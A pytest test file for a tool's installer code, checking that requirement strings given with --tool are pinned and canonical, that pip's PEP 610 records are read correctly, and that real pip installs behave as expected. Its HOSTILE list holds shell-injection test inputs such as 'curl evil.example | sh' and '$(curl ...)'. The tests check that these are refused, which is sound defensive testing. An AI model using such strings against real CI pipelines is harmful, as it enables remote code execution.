"""How dsptkit was installed, pinned, for CI and the pre-commit hook (dsptkit.install, --tool).

Unit tests of every PEP 610 form and of the requirements --tool accepts and refuses, hostile
ones included; then real pip installing this project from a git URL at a tag and from a wheel
into a fresh venv outside the checkout, reading back what pip recorded.
"""

from __future__ import annotations

import hashlib
import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from dsptkit import install
from dsptkit.errors import UsageError
from dsptkit.install import InstallSpec, parse_requirement, spec_from_direct_url
from dsptkit.main import main
from test_precommit import TAG, offline_env, project_repo, project_wheel, run, wheelhouse  # noqa: F401

SHA = "0123456789abcdef0123456789abcdef01234567"
HASH = "ab" * 32
TEMPLATE = (Path(install.__file__).parent / "templates/repo/github/workflows/dspt.yml").read_text()


# ---- what --tool accepts ----------------------------------------------------------------------

@pytest.mark.parametrize("given,requirement,kind", [
    ("dsptkit==0.2.0", "dsptkit==0.2.0", "index"),
    ("  DsptKit == 1.0.post1+local.2 ", "dsptkit==1.0.post1+local.2", "index"),
    ("dsptkit[Portal, word]==2!1.0rc1", "dsptkit[portal,word]==2!1.0rc1", "index"),
    (f"dsptkit @ git+https://github.com/acme/dsptkit@{SHA}",
     f"dsptkit @ git+https://github.com/acme/dsptkit@{SHA}", "vcs"),
    (f"dsptkit@git+ssh://git@github.com/acme/dsptkit.git@{SHA}",
     f"dsptkit @ git+ssh://git@github.com/acme/dsptkit.git@{SHA}", "vcs"),
    (f"dsptkit @ git+https://example.org/mono.git@{SHA}#subdirectory=tools/dsptkit",
     f"dsptkit @ git+https://example.org/mono.git@{SHA}#subdirectory=tools/dsptkit", "vcs"),
    (f"dsptkit @ https://example.org/dl/dsptkit-0.2.0-py3-none-any.whl#sha256={HASH}",
     f"dsptkit @ https://example.org/dl/dsptkit-0.2.0-py3-none-any.whl#sha256={HASH}", "archive"),
    (f"dsptkit @ file:///srv/wheels/dsptkit-0.2.0.tar.gz#sha256={HASH}",
     f"dsptkit @ file:///srv/wheels/dsptkit-0.2.0.tar.gz#sha256={HASH}", "archive"),
])
def test_pinned_requirements_are_accepted_in_canonical_form(given, requirement, kind):
    spec = parse_requirement(given)
    assert (spec.requirement, spec.kind) == (requirement, kind)
    assert parse_requirement(spec.requirement).requirement == requirement  # canonical is stable


@pytest.mark.parametrize("given,problem", [
    ("dsptkit", "is not pinned: a bare name installs whatever an index holds"),
    ("dsptkit[portal]", "is not pinned"),
    ("dsptkit>=0.2", "is a range, not one version"),
    ("dsptkit~=0.2.0", "is a range"),
    ("dsptkit==0.*", "is not one exact version"),
    ("dsptkit==0.2,<1", "is not one exact version"),
    ("dsptkit===0.2", "is not one exact version"),
    ("dsptkit==latest", "is not a version"),
    ("other==1.0", "names 'other'; CI and the hook need dsptkit"),
    ("dsptkit @ git+https://github.com/acme/dsptkit", "names no commit: add @COMMIT"),
    ("dsptkit @ git+https://github.com/acme/dsptkit@v0.2.0", "'v0.2.0' in"),
    ("dsptkit @ git+https://github.com/acme/dsptkit@main", "a branch or tag can move"),
    ("dsptkit @ git+https://github.com/acme/dsptkit@0123456", "is not a full commit id"),
    (f"dsptkit @ svn+https://example.org/repo@{SHA}", "svn+ URLs are not supported"),
    ("dsptkit @ https://example.org/dsptkit-0.2.0.whl", "has no hash"),
    ("dsptkit @ https://example.org/dsptkit-0.2.0.whl#md5=abc", "is not a sha256, sha384 or sha512 hash"),
    ("dsptkit @ https://example.org/dsptkit-0.2.0.whl#sha256=abc", "is not a sha256"),
    ("dsptkit @ file:///home/me/dsptkit", "a folder or a web page is no fixed version"),
    ("dsptkit @ https://github.com/acme/dsptkit", "is not a wheel, .tar.gz or .zip"),
    (f"dsptkit @ git+https://user:token@github.com/acme/dsptkit@{SHA}", "holds a user name or password"),
    (f"dsptkit @ https://token@example.org/dsptkit-0.2.0.whl#sha256={HASH}", "holds a user name"),
    ("dsptkit @ https://example.org/d.whl?x=1#sha256=" + HASH, "has a query"),
    ("dsptkit @ ftp://example.org/dsptkit-0.2.0.whl", "is not a URL pip can install from"),
    ("dsptkit @ dsptkit-0.2.0.whl", "is not a URL pip can install from"),
    ("", "the requirement is empty"),
    ("-e .", "does not start with a package name"),
    ("--index-url=https://evil.example/simple", "does not start with a package name"),
    ("dsptkit==0.2.0 --index-url https://evil.example/simple", "is not a version"),
    ("dsptkit==0.2.0; python_version > '3'", "which a pinned requirement never needs"),
    ("dsptkit[po rtal]==1.0", "has extras that are not names"),
    ("dsptkit 1.0", "cannot read 'dsptkit 1.0' as a requirement"),
    (f"dsptkit @ https://example.org/dsptkit-1.0.whl#{HASH}", "has a fragment this does not understand"),
    (f"dsptkit @ git+https://github.com/a/b@{SHA}#egg=dsptkit", "a VCS URL takes only #subdirectory="),
    ("dsptkit @ ssh://git@example.org/dsptkit.git", "a repository URL needs a VCS prefix (git+ssh://)"),
])
def test_unpinned_or_unreadable_requirements_are_refused_naming_the_problem(given, problem):
    with pytest.raises(UsageError) as raised:
        parse_requirement(given)
    assert problem in str(raised.value)


HOSTILE = [
    "dsptkit==0.2.0'; curl evil.example | sh; echo '",
    'dsptkit==0.2.0" && curl evil.example',
    "dsptkit==0.2.0\nrun: curl evil.example",
    "dsptkit==0.2.0\r\n",
    "dsptkit==$(curl evil.example)",
    "dsptkit==`id`",
    "dsptkit==0.2.0 && id",
    "dsptkit==0.2.0|id",
    "dsptkit==0.2.0 # ${{ secrets.GITHUB_TOKEN }}",
    f"dsptkit @ git+https://github.com/a/b@{SHA}#${{{{ github.token }}}}",
    f"dsptkit @ git+https://github.com/a/b;id@{SHA}",
    f"dsptkit @ git+https://github.com/a/b@{SHA} ; id",
    f"dsptkit @ https://example.org/x.whl#sha256={HASH}\x00",
    "dsptkit==0.2.0\u2028",
    "dsptkit==0.2.0\\",
    "dsptkit==0.2.0 *",
    "dsptkit==0.2.0 ]",
    f"dsptkit @ https://example.org/a b.whl#sha256={HASH}",
    "dsptkit==0.2.0' ",
]


@pytest.mark.parametrize("given", HOSTILE)
def test_hostile_requirements_are_refused(given):
    with pytest.raises(UsageError):
        parse_requirement(given)


@pytest.mark.parametrize("given", HOSTILE)
def test_init_refuses_a_hostile_tool_and_writes_nothing(tmp_path, capsys, given):
    target = tmp_path / "org"
    assert main(["init", str(target), "--name", "N", "--category", "3", "--tool", given]) == 2
    assert capsys.readouterr().err.startswith("dspt: error: --tool: ")
    assert not target.exists()


ACCEPTED = [f"dsptkit @ git+https://github.com/acme/dsptkit@{SHA}",
            f"dsptkit @ git+https://example.org/mono.git@{SHA}#subdirectory=tools/dsptkit",
            f"dsptkit[word] @ https://example.org/dl/dsptkit-0.2.0-py3-none-any.whl#sha256={HASH}",
            "dsptkit==2!1.0.post1+local.2", f"dsptkit @ file:///srv/a%20b/dsptkit-1.0.zip#sha256={HASH}"]


@pytest.mark.parametrize("given", ACCEPTED)
def test_what_is_accepted_is_written_exactly_into_the_workflow_and_the_hook(given):
    """The YAML loads, and the shell command is pip install with exactly the requirement."""
    spec = parse_requirement(given)
    steps = [step for job in yaml.safe_load(install.workflow(TEMPLATE, spec))["jobs"].values()
             for step in job["steps"] if "pip install" in step.get("run", "")]
    assert [shlex.split(step["run"]) for step in steps] == [
        ["python", "-m", "pip", "install", spec.requirement],
        ["python", "-m", "pip", "install", spec.with_extras("portal")]]
    assert "__DSPT" not in install.workflow(TEMPLATE, spec)
    (repo,) = yaml.safe_load("repos:\n" + install.pre_commit_repos(spec))["repos"]
    if spec.hook_repository:
        assert repo == {"repo": spec.url, "rev": SHA, "hooks": [{"id": "dspt-check"}]}
    else:
        assert repo["hooks"][0]["additional_dependencies"] == [spec.requirement]


def test_extras_are_added_to_any_pinned_form():
    assert parse_requirement("dsptkit==1.0").with_extras("portal") == "dsptkit[portal]==1.0"
    assert parse_requirement("dsptkit[word]==1.0").with_extras("portal") == "dsptkit[portal,word]==1.0"
    assert parse_requirement(f"dsptkit @ git+https://h/r@{SHA}").with_extras("portal") == \
        f"dsptkit[portal] @ git+https://h/r@{SHA}"


# ---- what pip recorded (PEP 610) -------------------------------------------------------------

def test_a_version_is_written_in_its_normal_form():
    assert parse_requirement("dsptkit==v0.2.0").requirement == "dsptkit==0.2.0"
    assert parse_requirement("dsptkit==0.2.0RC1").requirement == "dsptkit==0.2.0rc1"


def test_no_record_means_an_index_and_the_exact_version():
    spec = spec_from_direct_url(None, "0.3.1")
    assert (spec.requirement, spec.kind) == ("dsptkit==0.3.1", "index")
    # a version pin does not say who published the package: init says so, and what to prefer
    assert spec.warning.startswith("dsptkit was installed from a package index, so CI will run "
                                   "'pip install dsptkit==0.3.1' against PyPI")
    assert "prefer --tool with the project's git URL at a commit" in spec.warning
    assert spec.note == "installed from a package index at version 0.3.1"
    assert spec_from_direct_url(None, "not a version").requirement == ""


def test_a_vcs_record_pins_the_commit_and_keeps_the_tag_asked_for():
    record = {"url": "https://github.com/acme/dsptkit.git",
              "vcs_info": {"vcs": "git", "commit_id": SHA, "requested_revision": "v0.2.0"}}
    spec = spec_from_direct_url(record, "0.2.0")
    assert spec.requirement == f"dsptkit @ git+https://github.com/acme/dsptkit.git@{SHA}"
    assert (spec.kind, spec.commit, spec.revision, spec.warning) == ("vcs", SHA, "v0.2.0", None)
    assert spec.note == f"installed from git https://github.com/acme/dsptkit.git at v0.2.0 (commit {SHA})"
    assert spec.hook_repository == ("https://github.com/acme/dsptkit.git", SHA)
    text = install.pre_commit_repos(spec)
    assert f"rev: {SHA}  # frozen: v0.2.0\n" in text  # pre-commit autoupdate --freeze's comment
    # a branch asked for is kept as a note only: the commit is what is pinned
    record["vcs_info"]["requested_revision"] = "main"
    assert spec_from_direct_url(record, "0.2.0").requirement == spec.requirement
    # a subdirectory cannot be a pre-commit hook repository: a local hook instead
    record["subdirectory"] = "tools"
    spec = spec_from_direct_url(record, "0.2.0")
    assert spec.requirement.endswith("#subdirectory=tools") and spec.hook_repository is None
    # a revision that is no plain tag name is not written even as a comment
    record["vcs_info"]["requested_revision"] = "v1\nrun: id"
    assert spec_from_direct_url(record, "0.2.0").revision is None


def test_an_archive_record_pins_its_hash():
    url = "https://example.org/dsptkit-0.2.0-py3-none-any.whl"
    spec = spec_from_direct_url({"url": url, "archive_info": {"hashes": {"sha256": HASH}}}, "0.2.0")
    assert (spec.requirement, spec.kind, spec.warning) == (f"dsptkit @ {url}#sha256={HASH}", "archive", None)
    legacy = spec_from_direct_url({"url": url, "archive_info": {"hash": f"sha256={HASH}"}}, "0.2.0")
    assert legacy.requirement == spec.requirement
    unhashed = spec_from_direct_url({"url": url, "archive_info": {}}, "0.2.0")
    assert unhashed.requirement == f"dsptkit @ {url}" and "no hash" in unhashed.warning


def test_a_local_archive_is_written_pinned_with_a_warning_that_ci_cannot_reach_it(tmp_path):
    wheel = tmp_path / "dsptkit-0.2.0-py3-none-any.whl"
    wheel.write_bytes(b"not really a wheel")
    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
    spec = spec_from_direct_url({"url": wheel.as_uri(), "archive_info": {}}, "0.2.0")  # an older pip
    assert spec.requirement == f"dsptkit @ {wheel.as_uri()}#sha256={digest}"
    assert "CI cannot reach it" in spec.warning and "--tool" in spec.warning


def test_a_folder_is_written_with_a_warning(tmp_path):
    spec = spec_from_direct_url({"url": tmp_path.as_uri(), "dir_info": {"editable": True}}, "0.2.0")
    assert (spec.requirement, spec.kind) == (f"dsptkit @ {tmp_path.as_uri()}", "directory")
    assert spec.note == f"installed from the folder {tmp_path} (an editable install)"
    assert "CI cannot reach" in spec.warning and "no fixed version" in spec.warning


def test_a_record_that_cannot_be_pinned_asks_for_tool(tmp_path, capsys, monkeypatch):
    odd = spec_from_direct_url({"url": "https://h/r'x", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "1.0")
    assert odd.requirement == "" and "cannot be written as a pinned requirement" in odd.note
    assert spec_from_direct_url({"url": "x"}, "1.0").requirement == "dsptkit==1.0"  # unknown form
    monkeypatch.setattr(install, "install_spec", lambda: odd)
    target = tmp_path / "org"
    assert main(["init", str(target), "--name", "N", "--category", "3"]) == 2
    err = capsys.readouterr().err
    assert "cannot tell how to install this dsptkit in CI" in err and "give --tool" in err
    assert not target.exists()


def test_install_spec_reads_the_installed_distribution(monkeypatch):
    from importlib import metadata

    class Distribution:
        version = "0.4.0"

        def __init__(self, record: str | None) -> None:
            self.record = record

        def read_text(self, name: str) -> str | None:
            assert name == "direct_url.json"
            return self.record

    def installed(record):  # type: ignore[no-untyped-def]
        monkeypatch.setattr(metadata, "distribution", lambda name: Distribution(record))
        return install.install_spec()

    assert installed(None).requirement == "dsptkit==0.4.0"
    assert installed(json.dumps({"url": "https://h/r", "vcs_info": {"vcs": "git", "commit_id": SHA}})) \
        .requirement == f"dsptkit @ git+https://h/r@{SHA}"
    corrupt = installed("{not json")
    assert corrupt.requirement == "dsptkit==0.4.0" and "not clear" in corrupt.warning

    def missing(name):  # type: ignore[no-untyped-def]
        raise metadata.PackageNotFoundError(name)

    monkeypatch.setattr(metadata, "distribution", missing)
    assert install.install_spec().requirement == "" and "not installed as a package" in install.install_spec().note
    assert spec_from_direct_url({"url": "x"}, "not a version").requirement == ""
    assert spec_from_direct_url({"url": "file:///x/y.whl", "archive_info": {}}, "1.0").requirement == \
        "dsptkit @ file:///x/y.whl"  # no hash recorded and the file gone: pinned by its URL only


def test_init_says_which_requirement_it_wrote_and_where_it_came_from(tmp_path, capsys, monkeypatch):
    record = {"url": "https://github.com/acme/dsptkit", "vcs_info": {"vcs": "git", "commit_id": SHA,
                                                                     "requested_revision": "v0.2.0"}}
    monkeypatch.setattr(install, "install_spec", lambda: spec_from_direct_url(record, "0.2.0"))
    target = tmp_path / "org"
    assert main(["init", str(target), "--name", "N", "--category", "3", "--no-git"]) == 0
    out, err = capsys.readouterr()
    requirement = f"dsptkit @ git+https://github.com/acme/dsptkit@{SHA}"
    assert (f"CI and the pre-commit hook install dsptkit as '{requirement}': installed from git "
            f"https://github.com/acme/dsptkit at v0.2.0 (commit {SHA}).") in out
    assert err == ""
    assert f"python -m pip install '{requirement}'" in (target / ".github/workflows/dspt.yml").read_text()
    config = yaml.safe_load((target / ".pre-commit-config.yaml").read_text())
    assert config["repos"] == [{"repo": "https://github.com/acme/dsptkit", "rev": SHA,
                                "hooks": [{"id": "dspt-check"}]}]
    assert f"pip install '{requirement}'" in (target / "README.md").read_text()

    other = tmp_path / "other"
    assert main(["init", str(other), "--name", "N", "--category", "3", "--no-git",
                 "--tool", "dsptkit==0.3.0"]) == 0
    out, err = capsys.readouterr()
    assert "install dsptkit as 'dsptkit==0.3.0': given with --tool." in out and err == ""
    (hook,) = yaml.safe_load((other / ".pre-commit-config.yaml").read_text())["repos"][0]["hooks"]
    assert hook["additional_dependencies"] == ["dsptkit==0.3.0"]


def test_a_local_tool_is_written_with_a_warning(tmp_path, capsys):
    tool = f"dsptkit @ file:///srv/dsptkit-0.2.0-py3-none-any.whl#sha256={HASH}"
    assert main(["init", str(tmp_path / "org"), "--name", "N", "--category", "3", "--no-git",
                 "--tool", tool]) == 0
    err = capsys.readouterr().err
    assert err.startswith("dspt init: warning: file:///srv/dsptkit-0.2.0-py3-none-any.whl#sha256=")
    assert "CI cannot reach it" in err


# ---- real pip --------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def venv(tmp_path_factory, wheelhouse) -> tuple[Path, dict[str, str]]:  # noqa: F811
    """A fresh venv outside the checkout, and an environment whose pip reads the wheelhouse only."""
    where = tmp_path_factory.mktemp("venv") / "v"
    run([sys.executable, "-m", "venv", "--without-pip", where])
    env = offline_env(dict(os.environ), wheelhouse)
    return where / "bin" / "python", env


def pip(venv, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:  # type: ignore[no-untyped-def]
    python, env = venv
    return run([sys.executable, "-m", "pip", "--python", python, *args], env=env, check=check)


def recorded(venv) -> dict:  # type: ignore[no-untyped-def]
    python, env = venv
    code = ("import dataclasses, json; from dsptkit.install import install_spec; "
            "print(json.dumps(dataclasses.asdict(install_spec())))")
    return json.loads(run([python, "-c", code], env=env, cwd=python.parents[2]).stdout)


def test_real_pip_from_a_git_url_at_a_tag(venv, project_repo, tmp_path):  # noqa: F811
    repo, commit = project_repo
    pip(venv, "install", "--quiet", f"git+{repo.as_uri()}@{TAG}")
    spec = recorded(venv)
    assert spec["requirement"] == f"dsptkit @ git+{repo.as_uri()}@{commit}"
    assert (spec["kind"], spec["commit"], spec["revision"]) == ("vcs", commit, TAG)
    assert "CI cannot reach it" in spec["warning"]  # a file:// URL, here
    # that dsptkit's own `dspt init` writes the project's hook at the commit, the tag as a comment
    python, env = venv
    org = tmp_path / "org"
    done = run([python.with_name("dspt"), "init", org, "--name", "N", "--category", "3", "--no-git"], env=env)
    assert f"install dsptkit as 'dsptkit @ git+{repo.as_uri()}@{commit}'" in done.stdout
    assert f"  - repo: \"{repo.as_uri()}\"\n    rev: {commit}  # frozen: {TAG}\n" in \
        (org / ".pre-commit-config.yaml").read_text()


def test_real_pip_from_a_wheel_and_its_hash_is_enforced(venv, project_wheel, tmp_path):  # noqa: F811
    wheel, digest = project_wheel
    pip(venv, "install", "--quiet", "--force-reinstall", "--no-deps", wheel)
    spec = recorded(venv)
    assert spec["requirement"] == f"dsptkit @ {wheel.as_uri()}#sha256={digest}"
    assert spec["kind"] == "archive" and "CI cannot reach it" in spec["warning"]
    # pip refuses the same requirement with another hash: the pin means something
    wrong = f"dsptkit @ {wheel.as_uri()}#sha256={'0' * 64}"
    done = pip(venv, "install", "--no-deps", "--force-reinstall", "--dry-run", wrong, check=False)
    assert done.returncode != 0 and "do not match" in (done.stdout + done.stderr).lower()


def test_the_spec_dataclass_has_the_documented_fields():
    assert {"requirement", "kind", "url", "commit", "note"} <= set(InstallSpec.__dataclass_fields__)
